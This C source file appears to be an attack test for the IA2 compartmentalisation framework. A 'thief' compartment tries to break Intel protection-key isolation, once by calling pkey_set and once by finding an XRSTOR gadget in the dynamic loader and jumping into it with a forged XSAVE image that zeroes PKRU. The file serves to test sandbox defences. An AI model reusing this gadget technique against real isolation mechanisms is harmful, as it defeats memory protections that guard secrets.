#define _GNU_SOURCE
#include <ia2.h>
#include <attack.h>
#include <cpuid.h>
#include <link.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>
#include "parts.h"
#define IA2_COMPARTMENT 2
#include <ia2_compartment_init.inc>

#define IMAGE 0x200000500000UL
#define HALF_STACK 0x8000UL

static unsigned char *wanted;

/* XRSTOR of something on the stack: `0f ae 6c 24 DISPLACEMENT` (SDM volume 2). */
static int find_xrstor(struct dl_phdr_info *info, size_t size, void *found)
{
    int i;

    for (i = 0; i < info->dlpi_phnum; i++) {
        const ElfW(Phdr) *header = &info->dlpi_phdr[i];
        unsigned char *code = (unsigned char *)info->dlpi_addr + header->p_vaddr;
        unsigned long at;
        if (header->p_type != PT_LOAD || !(header->p_flags & PF_X) || !strstr(info->dlpi_name, "ld-linux"))
            continue;
        for (at = 0; at + 5 < header->p_memsz; at++)
            if (code[at] == 0x0f && code[at + 1] == 0xae && code[at + 2] == 0x6c && code[at + 3] == 0x24)
                *(unsigned char **)found = code + at;
    }
    return 0;
}

__attribute__((noinline)) static void landed(void)
{
    BOARD->landed_pkru = ia2_get_pkru();
    take(wanted, 16);
    _exit(0);
}

/* Jumps onto the loader's XRSTOR with an image that opens all keys. */
static void jump_to_xrstor(void)
{
    unsigned int size, offset, c, d;
    unsigned char *xrstor = NULL;
    unsigned long stack = IMAGE + HALF_STACK, image;

    dl_iterate_phdr(IA2_IGNORE(find_xrstor), &xrstor);
    if (!xrstor) {
        printf("absent: XRSTOR in the loader\n");
        return;
    }
    __cpuid_count(0xd, 9, size, offset, c, d);
    mmap((void *)IMAGE, 2 * HALF_STACK, PROT_READ | PROT_WRITE,
         MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    image = stack + xrstor[4];
    /* XSTATE_BV: the image holds PKRU (component 9), and that is 0. */
    *(unsigned long *)(image + 512) = 1ul << 9;
    *(unsigned int *)(image + offset) = 0;
    /* The loader goes on by the stack in rbx and the address in r11. */
    __asm__ volatile("movq %0, %%rsp\n"
                     "leaq 4096(%%rsp), %%rbx\n"
                     "movq %2, %%r11\n"
                     "movl $0x200, %%eax\n"
                     "xorl %%edx, %%edx\n"
                     "jmpq *%1\n"
                     : : "r"(stack), "r"(xrstor), "r"((void *)landed) : "memory", "rax", "rdx", "r11");
    (void)size, (void)c, (void)d;
}

void thief_use(int what, unsigned char *target)
{
    wanted = target;
    if (what == PKEY_SET) {
        /* The C library's own WRPKRU. */
        pkey_set(1, 0);
        take(target, 16);
        return;
    }
    jump_to_xrstor();
}

int thief_honest(int number) { return number * 7; }
